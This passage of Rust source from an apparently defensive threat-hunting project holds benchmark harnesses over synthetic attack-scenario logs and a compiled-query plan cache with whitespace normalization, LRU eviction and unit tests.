             (delta {d_early} → {d_late}, full {f_early} → {f_late})"
        );
        // Both cases serialize into a valid record.
        let doc = to_json(&[delta, full], true);
        assert!(validate(&doc).is_empty(), "{:?}", validate(&doc));
    }

    #[test]
    fn record_round_trips_and_validates() {
        let w = Workload {
            name: "tiny",
            seed: 42,
            target_events: 1_500,
            queries: &["proc p read file f return p"],
            repeat: 1,
        };
        let results = vec![
            run_case(EngineKind::Single, &w),
            run_case(EngineKind::Sharded, &w),
        ];
        let doc = to_json(&results, true);
        assert!(validate(&doc).is_empty(), "{:?}", validate(&doc));
        let reparsed = JsonValue::parse(&doc.pretty()).expect("valid JSON");
        assert!(validate(&reparsed).is_empty());
        // The diff against itself reports no new/dropped cases.
        let report = diff(&reparsed, &reparsed);
        assert!(report.contains("single/tiny"));
        assert!(!report.contains("dropped"));
        assert!(!report.contains("no previous record"));
    }

    #[test]
    fn validate_rejects_malformed_records() {
        let empty = JsonValue::Obj(vec![]);
        assert!(!validate(&empty).is_empty());
        let wrong = JsonValue::Obj(vec![
            ("schema".into(), JsonValue::Str("other/v9".into())),
            ("pr".into(), JsonValue::Num(6.0)),
            ("smoke".into(), JsonValue::Bool(true)),
            ("cases".into(), JsonValue::Arr(vec![])),
        ]);
        let problems = validate(&wrong);
        assert!(problems.iter().any(|p| p.contains("unknown schema")));
        assert!(problems.iter().any(|p| p.contains("empty")));
    }
}
