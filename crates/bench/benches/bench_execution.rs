//! Criterion bench behind E3: per-case query execution time by strategy.

use criterion::{criterion_group, criterion_main, BenchmarkId, Criterion};
use threatraptor::prelude::*;
use threatraptor_bench::all_cases;
use threatraptor_storage::AuditStore;

fn bench_execution(c: &mut Criterion) {
    let scenario = ScenarioBuilder::new()
        .seed(42)
        .attacks(&[
            AttackKind::DataLeakage,
            AttackKind::PasswordCrack,
            AttackKind::MalwareDrop,
            AttackKind::DbExfil,
        ])
        .target_events(50_000)
        .build();
    let store = AuditStore::ingest(&scenario.log, true);
    let engine = Engine::new(&store);

    let mut group = c.benchmark_group("execution_50k");
    for case in all_cases() {
        for mode in [
            ExecMode::Scheduled,
            ExecMode::Unscheduled,
            ExecMode::RelationalOnly,
            ExecMode::GraphOnly,
        ] {
            group.bench_with_input(
                BenchmarkId::new(case.name, format!("{mode:?}")),
                &mode,
                |b, &mode| {
                    b.iter(|| {
                        let r = engine
                            .hunt_mode(case.reference_tbql, mode)
                            .expect("query executes");
                        assert!(!r.is_empty());
                        r.rows.len()
                    })
                },
            );
        }
    }
    group.finish();
}

criterion_group! {
    name = benches;
    config = Criterion::default().sample_size(20);
    targets = bench_execution
}
criterion_main!(benches);
