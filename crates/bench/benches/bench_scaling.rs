//! Criterion bench behind E4: scheduled vs unscheduled as the log grows.

use criterion::{criterion_group, criterion_main, BenchmarkId, Criterion, Throughput};
use threatraptor::prelude::*;
use threatraptor_storage::AuditStore;

fn bench_scaling(c: &mut Criterion) {
    let mut group = c.benchmark_group("scaling_fig2");
    for &size in &[10_000usize, 40_000, 160_000] {
        let scenario = ScenarioBuilder::new()
            .seed(42)
            .attacks(&[AttackKind::DataLeakage])
            .target_events(size)
            .build();
        let store = AuditStore::ingest(&scenario.log, true);
        let engine = Engine::new(&store);
        group.throughput(Throughput::Elements(store.event_count() as u64));
        for mode in [ExecMode::Scheduled, ExecMode::Unscheduled] {
            group.bench_with_input(
                BenchmarkId::new(format!("{mode:?}"), size),
                &mode,
                |b, &mode| {
                    b.iter(|| {
                        let r = engine
                            .hunt_mode(threatraptor::FIG2_TBQL, mode)
                            .expect("query executes");
                        assert!(!r.is_empty());
                        r.rows.len()
                    })
                },
            );
        }
    }
    group.finish();
}

criterion_group! {
    name = benches;
    config = Criterion::default().sample_size(15);
    targets = bench_scaling
}
criterion_main!(benches);
