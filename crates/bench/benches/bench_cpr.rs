//! Criterion bench behind E6: Causality-Preserved Reduction throughput.

use criterion::{criterion_group, criterion_main, BenchmarkId, Criterion, Throughput};
use threatraptor::prelude::*;
use threatraptor_storage::cpr;

fn bench_cpr(c: &mut Criterion) {
    let mut group = c.benchmark_group("cpr_reduce");
    for &size in &[20_000usize, 80_000] {
        let scenario = ScenarioBuilder::new()
            .seed(42)
            .attacks(&[AttackKind::DataLeakage])
            .target_events(size)
            .build();
        group.throughput(Throughput::Elements(scenario.log.events.len() as u64));
        group.bench_with_input(
            BenchmarkId::from_parameter(size),
            &scenario,
            |b, scenario| {
                b.iter(|| {
                    let (reduced, stats) = cpr::reduce(&scenario.log.events);
                    assert!(stats.factor() > 1.0);
                    reduced.len()
                })
            },
        );
    }
    group.finish();
}

criterion_group! {
    name = benches;
    config = Criterion::default().sample_size(15);
    targets = bench_cpr
}
criterion_main!(benches);
