//! Criterion bench behind E9: service-layer hunt throughput by worker
//! and shard count.

use criterion::{criterion_group, criterion_main, BenchmarkId, Criterion, Throughput};
use std::sync::Arc;
use threatraptor::prelude::*;
use threatraptor_bench::all_cases;
use threatraptor_service::{HuntScheduler, PlanCache};
use threatraptor_storage::ShardedStore;

fn batch(len: usize) -> Vec<HuntJob> {
    let cases = all_cases();
    (0..len)
        .map(|i| HuntJob::tbql(cases[i % cases.len()].reference_tbql))
        .collect()
}

fn bench_service(c: &mut Criterion) {
    let scenario = ScenarioBuilder::new()
        .seed(42)
        .attacks(&AttackKind::ALL)
        .target_events(30_000)
        .build();
    let cores = std::thread::available_parallelism()
        .map(|p| p.get())
        .unwrap_or(1);

    let mut group = c.benchmark_group("service_hunts");
    let batch_len = 32;
    group.throughput(Throughput::Elements(batch_len as u64));

    // Worker scaling at a fixed shard count.
    let store = Arc::new(ShardedStore::ingest(&scenario.log, true, 8));
    let mut worker_counts = vec![1, 2, cores.max(2)];
    worker_counts.dedup();
    for workers in worker_counts {
        let cache = Arc::new(PlanCache::new());
        let sched = HuntScheduler::new(Arc::clone(&store), cache).workers(workers);
        sched.run(batch(batch_len)); // warm the plan cache
        group.bench_with_input(BenchmarkId::new("workers", workers), &sched, |b, sched| {
            b.iter(|| {
                let reports = sched.run(batch(batch_len));
                assert!(reports.iter().all(|r| r.outcome.is_ok()));
                reports.len()
            })
        });
    }

    // Shard scaling for a single all-core hunt.
    for shards in [1usize, 4, 16] {
        let store = ShardedStore::ingest(&scenario.log, true, shards);
        group.bench_with_input(
            BenchmarkId::new("shards_single_hunt", shards),
            &store,
            |b, store| {
                let engine = ShardedEngine::new(store);
                b.iter(|| {
                    let r = engine.hunt(threatraptor::FIG2_TBQL).unwrap();
                    assert!(!r.is_empty());
                    r.matches.len()
                })
            },
        );
    }
    group.finish();
}

criterion_group! {
    name = benches;
    config = Criterion::default().sample_size(10);
    targets = bench_service
}
criterion_main!(benches);
