//! Criterion bench behind E7: threat behavior extraction throughput.

use criterion::{criterion_group, criterion_main, BenchmarkId, Criterion, Throughput};
use threatraptor_bench::corpus::corpus;
use threatraptor_nlp::pipeline::FIG2_OSCTI_TEXT;
use threatraptor_nlp::ThreatExtractor;

fn bench_nlp(c: &mut Criterion) {
    let extractor = ThreatExtractor::new();
    // Warm the shared IOC rule set so compile time is not measured.
    extractor.extract(FIG2_OSCTI_TEXT);

    let mut group = c.benchmark_group("extraction");
    group.throughput(Throughput::Bytes(FIG2_OSCTI_TEXT.len() as u64));
    group.bench_function("fig2_report", |b| {
        b.iter(|| {
            let r = extractor.extract(FIG2_OSCTI_TEXT);
            assert_eq!(r.graph.node_count(), 9);
            r.graph.edge_count()
        })
    });

    // One representative per family.
    for id in ["apt_c2rotation", "malware_stealer", "advisory_supplychain"] {
        let reports = corpus();
        let report = reports.iter().find(|r| r.id == id).expect("known id");
        group.throughput(Throughput::Bytes(report.text.len() as u64));
        group.bench_with_input(BenchmarkId::new("report", id), report, |b, report| {
            b.iter(|| extractor.extract(report.text).graph.edge_count())
        });
    }
    group.finish();
}

criterion_group! {
    name = benches;
    config = Criterion::default().sample_size(30);
    targets = bench_nlp
}
criterion_main!(benches);
