//! The compiled-plan cache.
//!
//! Parsing, semantic analysis, and compilation of a TBQL query are pure
//! functions of the query text, and production hunt traffic repeats
//! queries heavily (the same intelligence is hunted across time windows,
//! tenants, and re-runs). The cache keys compiled plans by *normalized*
//! query text so formatting variants of the same query share one plan,
//! and separately memoizes OSCTI-report synthesis (report text → TBQL),
//! which dominates report-job latency.

use std::collections::HashMap;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex, OnceLock, RwLock};
use threatraptor_engine::compile::{compile, CompiledQuery};
use threatraptor_engine::EngineError;
use threatraptor_nlp::ThreatExtractor;
use threatraptor_synth::{synthesize, SynthesisError};
use threatraptor_tbql::analyze::analyze;
use threatraptor_tbql::parser::parse_query;
use threatraptor_tbql::printer::print_query;

/// Collapses whitespace runs *outside string literals* to single spaces
/// and trims, so that formatting variants of one query map to one cache
/// key while queries differing only inside a quoted filter (where
/// whitespace is significant — file paths may contain spaces) stay
/// distinct. Tracks the lexer's escape rules (`\"`, `\\`, `\n`, `\t`) so
/// an escaped quote does not end the literal; an unterminated literal
/// keeps its tail verbatim and will fail in the parser with its usual
/// error.
pub fn normalize_tbql(src: &str) -> String {
    let mut out = String::with_capacity(src.len());
    let mut chars = src.chars().peekable();
    let mut in_string = false;
    let mut pending_space = false;
    while let Some(c) = chars.next() {
        if in_string {
            out.push(c);
            match c {
                '\\' => {
                    if let Some(&esc) = chars.peek() {
                        out.push(esc);
                        chars.next();
                    }
                }
                '"' => in_string = false,
                _ => {}
            }
        } else if c.is_whitespace() {
            pending_space = !out.is_empty();
        } else {
            if pending_space {
                out.push(' ');
                pending_space = false;
            }
            out.push(c);
            if c == '"' {
                in_string = true;
            }
        }
    }
    out
}

/// Cache counters at a point in time.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct CacheStats {
    /// Plan-cache hits.
    pub hits: usize,
    /// Plan-cache misses (compilations performed).
    pub misses: usize,
    /// Distinct plans currently cached.
    pub plans: usize,
    /// Distinct report syntheses currently cached.
    pub reports: usize,
}

impl CacheStats {
    /// Hit ratio in `[0, 1]`; 0 when nothing was probed.
    pub fn hit_ratio(&self) -> f64 {
        let total = self.hits + self.misses;
        if total == 0 {
            0.0
        } else {
            self.hits as f64 / total as f64
        }
    }
}

/// A compiled plan as served by the cache.
#[derive(Debug)]
pub struct CachedPlan {
    /// Canonical (pretty-printed) TBQL text of the plan.
    pub tbql: String,
    /// The compiled query, ready for any executor.
    pub compiled: CompiledQuery,
}

/// A memoized synthesis outcome, computed at most once per report.
type SynthesisCell = Arc<OnceLock<Result<String, SynthesisError>>>;

/// Thread-safe plan + synthesis cache, shared by all scheduler workers.
#[derive(Debug, Default)]
pub struct PlanCache {
    plans: RwLock<HashMap<String, Arc<CachedPlan>>>,
    /// Per-report cell: `OnceLock::get_or_init` makes concurrent first
    /// touches of the same report run extraction+synthesis exactly once
    /// (the expensive stage — worth more than the plans' race-and-drop).
    syntheses: Mutex<HashMap<String, SynthesisCell>>,
    hits: AtomicUsize,
    misses: AtomicUsize,
}

impl PlanCache {
    /// An empty cache.
    pub fn new() -> PlanCache {
        PlanCache::default()
    }

    /// Returns the compiled plan for `tbql_src`, compiling at most once
    /// per normalized query text. The boolean is `true` on a cache hit.
    pub fn plan(&self, tbql_src: &str) -> Result<(Arc<CachedPlan>, bool), EngineError> {
        let key = normalize_tbql(tbql_src);
        if let Some(plan) = self.plans.read().expect("plan cache poisoned").get(&key) {
            self.hits.fetch_add(1, Ordering::Relaxed);
            return Ok((Arc::clone(plan), true));
        }

        // Compile outside any lock: compilation is pure, and two workers
        // racing on the same key just do redundant work once.
        let query = parse_query(tbql_src)?;
        let analyzed = analyze(&query)?;
        let compiled = compile(&analyzed)?;
        let plan = Arc::new(CachedPlan {
            tbql: print_query(&query),
            compiled,
        });
        let mut plans = self.plans.write().expect("plan cache poisoned");
        let entry = plans.entry(key).or_insert_with(|| Arc::clone(&plan));
        self.misses.fetch_add(1, Ordering::Relaxed);
        Ok((Arc::clone(entry), false))
    }

    /// Returns the TBQL synthesized from an OSCTI report, memoized by
    /// report text (successes *and* failures — a report that synthesizes
    /// to nothing will keep doing so). Concurrent requests for the same
    /// report block on one synthesis instead of each running the NLP
    /// pipeline.
    pub fn synthesize_report(&self, report: &str) -> Result<String, SynthesisError> {
        let cell = {
            let mut map = self.syntheses.lock().expect("synthesis cache poisoned");
            match map.get(report) {
                // Probe by &str first: the hot hit path must not clone a
                // multi-KB report inside the critical section.
                Some(cell) => Arc::clone(cell),
                None => Arc::clone(map.entry(report.to_string()).or_default()),
            }
        };
        cell.get_or_init(|| {
            let extraction = ThreatExtractor::new().extract(report);
            synthesize(&extraction.graph).map(|q| print_query(&q))
        })
        .clone()
    }

    /// Current counters.
    pub fn stats(&self) -> CacheStats {
        CacheStats {
            hits: self.hits.load(Ordering::Relaxed),
            misses: self.misses.load(Ordering::Relaxed),
            plans: self.plans.read().expect("plan cache poisoned").len(),
            reports: self
                .syntheses
                .lock()
                .expect("synthesis cache poisoned")
                .len(),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use threatraptor_tbql::parser::FIG2_TBQL;

    #[test]
    fn normalization_collapses_whitespace() {
        let a = normalize_tbql("proc p   read\n\tfile f\nreturn p");
        let b = normalize_tbql("proc p read file f return p");
        assert_eq!(a, b);
        assert_eq!(normalize_tbql("  proc p  "), "proc p");
    }

    #[test]
    fn normalization_preserves_string_literal_contents() {
        // Whitespace inside quoted filters is significant (paths may
        // contain spaces): these are different queries, not variants.
        let one = normalize_tbql("proc p[\"%My Documents%\"] read file f return p");
        let two = normalize_tbql("proc p[\"%My  Documents%\"] read file f return p");
        assert_ne!(one, two);
        assert!(one.contains("%My Documents%"));
        // An escaped quote does not terminate the literal.
        let esc = normalize_tbql("proc p[\"a\\\"b  c\"]   read file f return p");
        assert!(esc.contains("a\\\"b  c"));
        assert!(esc.ends_with("read file f return p"));
    }

    #[test]
    fn plans_compile_once_per_normalized_text() {
        let cache = PlanCache::new();
        let (p1, hit1) = cache.plan(FIG2_TBQL).unwrap();
        let (p2, hit2) = cache
            .plan(&format!("  {}  ", FIG2_TBQL.replace('\n', "  \n")))
            .unwrap();
        assert!(!hit1);
        assert!(hit2, "formatting variant must hit the cache");
        assert!(Arc::ptr_eq(&p1, &p2));
        let s = cache.stats();
        assert_eq!((s.hits, s.misses, s.plans), (1, 1, 1));
        assert!((s.hit_ratio() - 0.5).abs() < 1e-9);
    }

    #[test]
    fn bad_queries_error_and_are_not_cached() {
        let cache = PlanCache::new();
        assert!(cache.plan("syntactically broken").is_err());
        assert_eq!(cache.stats().plans, 0);
    }

    #[test]
    fn report_synthesis_is_memoized() {
        let cache = PlanCache::new();
        let report = threatraptor_nlp::pipeline::FIG2_OSCTI_TEXT;
        let a = cache.synthesize_report(report).unwrap();
        let b = cache.synthesize_report(report).unwrap();
        assert_eq!(a, b);
        assert_eq!(cache.stats().reports, 1);
        // Failures are memoized too.
        let err = cache.synthesize_report("Nothing interesting happened.");
        assert!(err.is_err());
        assert_eq!(cache.stats().reports, 2);
    }
}
