//! The compiled-plan cache.
//!
//! Parsing, semantic analysis, and compilation of a TBQL query are pure
//! functions of the query text, and production hunt traffic repeats
//! queries heavily (the same intelligence is hunted across time windows,
//! tenants, and re-runs). The cache keys compiled plans by *normalized*
//! query text so formatting variants of the same query share one plan,
//! and separately memoizes OSCTI-report synthesis (report text → TBQL),
//! which dominates report-job latency. Static-analysis *rejections*
//! (queries the lint pass proves can never match) are memoized in the
//! same map: a rejected query resubmitted under a retry loop is refused
//! straight from cache instead of being recompiled every time.
//!
//! Both maps are **size-capped with LRU eviction** — a long-lived
//! multi-tenant service sees an unbounded stream of distinct queries and
//! reports, and an unbounded memo is a slow memory leak. Syntheses are
//! keyed by a 128-bit content hash of the report text instead of the
//! text itself: reports run to many KB, and with the old full-text keys
//! the memo — not the compiled plans — was the dominant memory consumer.
//!
//! Lock poisoning is recovered from, never propagated: a hunt worker
//! panicking mid-probe must not take the shared cache — and with it
//! every other worker — down. Recovery is sound because both maps are
//! only ever mutated through single-call insert/evict operations whose
//! intermediate states are valid maps.

use std::collections::HashMap;
use threatraptor_engine::compile::{compile_with_lint, CompiledQuery};
use threatraptor_engine::EngineError;
use threatraptor_nlp::ThreatExtractor;
use threatraptor_obs::{Counter, Registry, Span, TraceSink};
use threatraptor_sync::atomic::{AtomicU64, AtomicUsize, Ordering};
use threatraptor_sync::{Arc, Mutex, OnceLock, PoisonError, RwLock};
use threatraptor_synth::{synthesize, SynthesisError};
use threatraptor_tbql::analyze::analyze;
use threatraptor_tbql::lint::LintReport;
use threatraptor_tbql::parser::parse_query;
use threatraptor_tbql::printer::print_query;

/// Default capacity of the compiled-plan map.
pub const DEFAULT_PLAN_CAPACITY: usize = 512;
/// Default capacity of the report-synthesis memo.
pub const DEFAULT_SYNTHESIS_CAPACITY: usize = 256;

/// Collapses whitespace runs *outside string literals* to single spaces
/// and trims, so that formatting variants of one query map to one cache
/// key while queries differing only inside a quoted filter (where
/// whitespace is significant — file paths may contain spaces) stay
/// distinct. Tracks the lexer's escape rules (`\"`, `\\`, `\n`, `\t`) so
/// an escaped quote does not end the literal; an unterminated literal
/// keeps its tail verbatim and will fail in the parser with its usual
/// error.
pub fn normalize_tbql(src: &str) -> String {
    let mut out = String::with_capacity(src.len());
    let mut chars = src.chars().peekable();
    let mut in_string = false;
    let mut pending_space = false;
    while let Some(c) = chars.next() {
        if in_string {
            out.push(c);
            match c {
                '\\' => {
                    if let Some(&esc) = chars.peek() {
                        out.push(esc);
                        chars.next();
                    }
                }
                '"' => in_string = false,
                _ => {}
            }
        } else if c.is_whitespace() {
            pending_space = !out.is_empty();
        } else {
            if pending_space {
                out.push(' ');
                pending_space = false;
            }
            out.push(c);
            if c == '"' {
                in_string = true;
            }
        }
    }
    out
}

/// 128-bit content key for a report text: two independent 64-bit FNV-1a
/// style passes plus the length. Not cryptographic — just wide enough
/// that an accidental collision between distinct reports is negligible
/// (and a collision costs a wrong memo hit, not a safety violation).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub struct ReportKey {
    hash: [u64; 2],
    len: usize,
}

impl ReportKey {
    /// Hashes a report text.
    pub fn of(text: &str) -> ReportKey {
        // Standard FNV-1a.
        let mut a: u64 = 0xcbf2_9ce4_8422_2325;
        // Same shape, independent offset and multiplier (splitmix64's
        // golden-ratio constant, odd → invertible mod 2^64).
        let mut b: u64 = 0x5851_f42d_4c95_7f2d;
        for byte in text.bytes() {
            a = (a ^ u64::from(byte)).wrapping_mul(0x0000_0100_0000_01b3);
            b = (b ^ u64::from(byte)).wrapping_mul(0x9e37_79b9_7f4a_7c15);
        }
        ReportKey {
            hash: [a, b],
            len: text.len(),
        }
    }
}

/// Cache counters at a point in time.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct CacheStats {
    /// Plan-cache hits.
    pub hits: usize,
    /// Plan-cache misses (compilations performed).
    pub misses: usize,
    /// Distinct plans currently cached.
    pub plans: usize,
    /// Distinct *rejections* currently cached: queries the static
    /// analyzer proved can never match, memoized so resubmits are
    /// refused without recompiling.
    pub rejections: usize,
    /// Probes served by a cached rejection (counted separately from
    /// plan hits/misses — no compilation happened and no plan was
    /// served).
    pub rejection_hits: usize,
    /// Distinct report syntheses currently cached.
    pub reports: usize,
    /// Entries evicted so far (plans + rejections + syntheses).
    pub evictions: usize,
}

impl CacheStats {
    /// Hit ratio in `[0, 1]`; 0 when nothing was probed.
    pub fn hit_ratio(&self) -> f64 {
        let total = self.hits + self.misses;
        if total == 0 {
            0.0
        } else {
            self.hits as f64 / total as f64
        }
    }
}

/// A compiled plan as served by the cache.
#[derive(Debug)]
pub struct CachedPlan {
    /// Canonical (pretty-printed) TBQL text of the plan.
    pub tbql: String,
    /// The compiled query, ready for any executor.
    pub compiled: CompiledQuery,
    /// Static-analysis findings for the query (warnings only — a plan
    /// with error-level diagnostics is never compiled; it is cached as
    /// a rejection instead).
    pub lint: LintReport,
}

/// What the cache memoized for a normalized query text: a compiled
/// plan, or the static-analysis rejection that stopped compilation.
/// Rejections are cached because they are as much a pure function of
/// the query text as plans are — resubmitting an infeasible query
/// (common under retry loops) should not re-run the compile pipeline.
#[derive(Debug)]
enum PlanEntry {
    Ready(Arc<CachedPlan>),
    Rejected(EngineError),
}

/// A plan map entry: the plan plus its recency stamp (atomic so hits
/// under the read lock can refresh it without write contention).
#[derive(Debug)]
struct PlanSlot {
    entry: PlanEntry,
    last_used: AtomicU64,
}

/// A memoized synthesis outcome, computed at most once per report.
type SynthesisCell = Arc<OnceLock<Result<String, SynthesisError>>>;

/// A synthesis memo entry with its recency stamp.
#[derive(Debug)]
struct SynthSlot {
    cell: SynthesisCell,
    last_used: u64,
}

/// Evicts the least-recently-used entries until `map` fits `capacity`.
/// O(n) scans per eviction — capacities are a few hundred, and eviction
/// only runs on insert overflow, so simplicity beats a linked LRU here.
fn evict_lru<K: Clone + Eq + std::hash::Hash, V>(
    map: &mut HashMap<K, V>,
    capacity: usize,
    last_used: impl Fn(&V) -> u64,
) -> usize {
    let mut evicted = 0;
    while map.len() > capacity {
        let Some(oldest) = map
            .iter()
            .min_by_key(|(_, v)| last_used(v))
            .map(|(k, _)| k.clone())
        else {
            break;
        };
        map.remove(&oldest);
        evicted += 1;
    }
    evicted
}

/// Registry handles for cache telemetry, attached at most once per
/// cache (the cache is shared via `Arc`, so interior attachment avoids
/// constructor churn at every creation site).
#[derive(Debug)]
struct CacheObs {
    /// `plan_cache_hits_total`.
    hits: Arc<Counter>,
    /// `plan_cache_misses_total`.
    misses: Arc<Counter>,
    /// `plan_cache_evictions_total` (plans + syntheses).
    evictions: Arc<Counter>,
    /// `plan_cache_rejections_total` (infeasible queries memoized).
    rejections: Arc<Counter>,
    /// `plan_cache_rejection_hits_total` (probes refused from cache).
    rejection_hits: Arc<Counter>,
    /// `hunt_stage_ns{stage=parse|analyze|compile|synthesize}`.
    trace: TraceSink,
}

/// Thread-safe plan + synthesis cache, shared by all scheduler workers.
/// Both maps are size-capped (LRU): see [`PlanCache::with_capacities`].
#[derive(Debug)]
pub struct PlanCache {
    plans: RwLock<HashMap<String, PlanSlot>>,
    /// Per-report cell keyed by content hash:
    /// `OnceLock::get_or_init` makes concurrent first touches of the same
    /// report run extraction+synthesis exactly once (the expensive stage
    /// — worth more than the plans' race-and-drop).
    syntheses: Mutex<HashMap<ReportKey, SynthSlot>>,
    plan_capacity: usize,
    synthesis_capacity: usize,
    /// Logical clock for LRU stamps.
    tick: AtomicU64,
    hits: AtomicUsize,
    misses: AtomicUsize,
    rejection_hits: AtomicUsize,
    evictions: AtomicUsize,
    /// Telemetry handles, attached at most once.
    obs: OnceLock<CacheObs>,
}

impl Default for PlanCache {
    fn default() -> PlanCache {
        PlanCache::new()
    }
}

impl PlanCache {
    /// An empty cache with default capacities.
    pub fn new() -> PlanCache {
        Self::with_capacities(DEFAULT_PLAN_CAPACITY, DEFAULT_SYNTHESIS_CAPACITY)
    }

    /// An empty cache holding at most `plans` compiled plans and
    /// `syntheses` memoized report syntheses (each clamped to ≥ 1);
    /// least-recently-used entries are evicted on overflow.
    pub fn with_capacities(plans: usize, syntheses: usize) -> PlanCache {
        PlanCache {
            plans: RwLock::new(HashMap::new()),
            syntheses: Mutex::new(HashMap::new()),
            plan_capacity: plans.max(1),
            synthesis_capacity: syntheses.max(1),
            tick: AtomicU64::new(0),
            hits: AtomicUsize::new(0),
            misses: AtomicUsize::new(0),
            rejection_hits: AtomicUsize::new(0),
            evictions: AtomicUsize::new(0),
            obs: OnceLock::new(),
        }
    }

    /// Attaches cache telemetry to `registry`: `plan_cache_*` counters
    /// plus `hunt_stage_ns{stage=parse|analyze|compile|synthesize}`
    /// timers around the compile pipeline. Idempotent; the first
    /// registry attached wins (the cache is shared, one owner
    /// instruments it).
    pub fn attach_metrics(&self, registry: &Arc<Registry>) {
        let _ = self.obs.set(CacheObs {
            hits: registry.counter("plan_cache_hits_total"),
            misses: registry.counter("plan_cache_misses_total"),
            evictions: registry.counter("plan_cache_evictions_total"),
            rejections: registry.counter("plan_cache_rejections_total"),
            rejection_hits: registry.counter("plan_cache_rejection_hits_total"),
            trace: TraceSink::new(Arc::clone(registry), "hunt_stage_ns"),
        });
    }

    // ordering: every atomic in this cache is Relaxed. The stats
    // counters are advisory scalars with no cross-variable invariant,
    // and the LRU recency ticks only *order* entries — a stale tick
    // costs at worst a suboptimal eviction, never incoherence, because
    // all structural mutation happens under the `plans` RwLock.
    fn observe_evictions(&self, evicted: usize) {
        self.evictions.fetch_add(evicted, Ordering::Relaxed);
        if let Some(obs) = self.obs.get() {
            obs.evictions.add(evicted as u64);
        }
    }

    fn next_tick(&self) -> u64 {
        self.tick.fetch_add(1, Ordering::Relaxed)
    }

    /// Returns the compiled plan for `tbql_src`, compiling at most once
    /// per normalized query text. The boolean is `true` on a cache hit.
    ///
    /// Queries the static analyzer rejects (error-level lint
    /// diagnostics) are memoized too: the first submit runs the compile
    /// pipeline and caches the [`EngineError::Infeasible`] outcome;
    /// resubmits of the same normalized text are refused from cache —
    /// counted as rejection hits, not plan hits — without recompiling.
    pub fn plan(&self, tbql_src: &str) -> Result<(Arc<CachedPlan>, bool), EngineError> {
        let key = normalize_tbql(tbql_src);
        if let Some(slot) = self
            .plans
            .read()
            .unwrap_or_else(PoisonError::into_inner)
            .get(&key)
        {
            slot.last_used.store(self.next_tick(), Ordering::Relaxed);
            match &slot.entry {
                PlanEntry::Ready(plan) => {
                    self.hits.fetch_add(1, Ordering::Relaxed);
                    if let Some(obs) = self.obs.get() {
                        obs.hits.inc();
                    }
                    return Ok((Arc::clone(plan), true));
                }
                PlanEntry::Rejected(err) => {
                    self.rejection_hits.fetch_add(1, Ordering::Relaxed);
                    if let Some(obs) = self.obs.get() {
                        obs.rejection_hits.inc();
                    }
                    return Err(err.clone());
                }
            }
        }

        // Compile outside any lock: compilation is pure, and two workers
        // racing on the same key just do redundant work once.
        let trace = self.obs.get().map(|obs| &obs.trace);
        let stage = |name: &str, trace: Option<&TraceSink>| trace.map(|t| t.span(name));
        // A failing stage cancels its span: error paths must not
        // pollute the stage-latency histograms (a parse error's
        // near-zero "parse time" would drag p50 down).
        fn timed<T, E>(span: Option<Span>, result: Result<T, E>) -> Result<T, E> {
            if result.is_err() {
                if let Some(s) = span {
                    s.cancel();
                }
            }
            result
        }
        let query = timed(stage("parse", trace), parse_query(tbql_src))?;
        let analyzed = timed(stage("analyze", trace), analyze(&query))?;
        let (compiled, lint) = match timed(stage("compile", trace), compile_with_lint(&analyzed)) {
            Ok(v) => v,
            Err(err @ EngineError::Infeasible(_)) => {
                // Infeasibility is a pure property of the query text:
                // cache the rejection so resubmits skip the pipeline.
                let tick = self.next_tick();
                let mut plans = self.plans.write().unwrap_or_else(PoisonError::into_inner);
                plans.entry(key).or_insert_with(|| PlanSlot {
                    entry: PlanEntry::Rejected(err.clone()),
                    last_used: AtomicU64::new(tick),
                });
                let evicted = evict_lru(&mut plans, self.plan_capacity, |slot| {
                    slot.last_used.load(Ordering::Relaxed)
                });
                drop(plans);
                self.observe_evictions(evicted);
                if let Some(obs) = self.obs.get() {
                    obs.rejections.inc();
                }
                return Err(err);
            }
            Err(err) => return Err(err),
        };
        let plan = Arc::new(CachedPlan {
            tbql: print_query(&query),
            compiled,
            lint,
        });
        let tick = self.next_tick();
        let mut plans = self.plans.write().unwrap_or_else(PoisonError::into_inner);
        let entry = plans.entry(key).or_insert_with(|| PlanSlot {
            entry: PlanEntry::Ready(Arc::clone(&plan)),
            last_used: AtomicU64::new(tick),
        });
        let plan = match &entry.entry {
            PlanEntry::Ready(p) => Arc::clone(p),
            // A racing worker cannot have cached a rejection for a key we
            // just compiled successfully (both outcomes are pure functions
            // of the text), but serve our own plan rather than panic.
            PlanEntry::Rejected(_) => plan,
        };
        let evicted = evict_lru(&mut plans, self.plan_capacity, |slot| {
            slot.last_used.load(Ordering::Relaxed)
        });
        drop(plans);
        self.observe_evictions(evicted);
        self.misses.fetch_add(1, Ordering::Relaxed);
        if let Some(obs) = self.obs.get() {
            obs.misses.inc();
        }
        Ok((plan, false))
    }

    /// Returns the TBQL synthesized from an OSCTI report, memoized by a
    /// content hash of the report text (successes *and* failures — a
    /// report that synthesizes to nothing will keep doing so). Concurrent
    /// requests for the same report block on one synthesis instead of
    /// each running the NLP pipeline.
    pub fn synthesize_report(&self, report: &str) -> Result<String, SynthesisError> {
        let key = ReportKey::of(report);
        let tick = self.next_tick();
        let (cell, evicted) = {
            let mut map = self
                .syntheses
                .lock()
                .unwrap_or_else(PoisonError::into_inner);
            let slot = map.entry(key).or_insert_with(|| SynthSlot {
                cell: Arc::default(),
                last_used: tick,
            });
            slot.last_used = tick;
            let cell = Arc::clone(&slot.cell);
            let evicted = evict_lru(&mut map, self.synthesis_capacity, |s| s.last_used);
            (cell, evicted)
        };
        self.observe_evictions(evicted);
        cell.get_or_init(|| {
            // The span only exists on the path that actually runs the
            // NLP pipeline; memoized calls record nothing.
            let _span = self.obs.get().map(|obs| obs.trace.span("synthesize"));
            let extraction = ThreatExtractor::new().extract(report);
            synthesize(&extraction.graph).map(|q| print_query(&q))
        })
        .clone()
    }

    /// Current counters.
    pub fn stats(&self) -> CacheStats {
        let (plans, rejections) = {
            let map = self.plans.read().unwrap_or_else(PoisonError::into_inner);
            let rejections = map
                .values()
                .filter(|s| matches!(s.entry, PlanEntry::Rejected(_)))
                .count();
            (map.len() - rejections, rejections)
        };
        CacheStats {
            hits: self.hits.load(Ordering::Relaxed),
            misses: self.misses.load(Ordering::Relaxed),
            plans,
            rejections,
            rejection_hits: self.rejection_hits.load(Ordering::Relaxed),
            reports: self
                .syntheses
                .lock()
